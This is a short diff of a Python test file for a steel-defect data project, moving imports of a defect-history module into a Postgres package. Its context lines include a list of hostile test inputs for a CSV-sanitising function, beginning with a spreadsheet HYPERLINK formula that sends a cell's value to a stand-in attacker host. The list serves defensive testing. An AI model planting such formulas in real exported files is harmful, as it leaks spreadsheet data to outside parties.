@@ -14,8 +14,9 @@ import pytest
 from dashboard import history_page
 from steelcore.csv_safety import neutralise, restore
 from steelcore.kaggle_csv import read_labels, write_submission
-from workers import defect_history, query_cli
-from workers.defect_history import DefectFilters, DefectRow
+from steelcore.postgres import defect_history
+from steelcore.postgres.defect_history import DefectFilters, DefectRow
+from workers import query_cli
 
 HOSTILE = (
     '=HYPERLINK("http://evil.example/?"&A1,"open")',
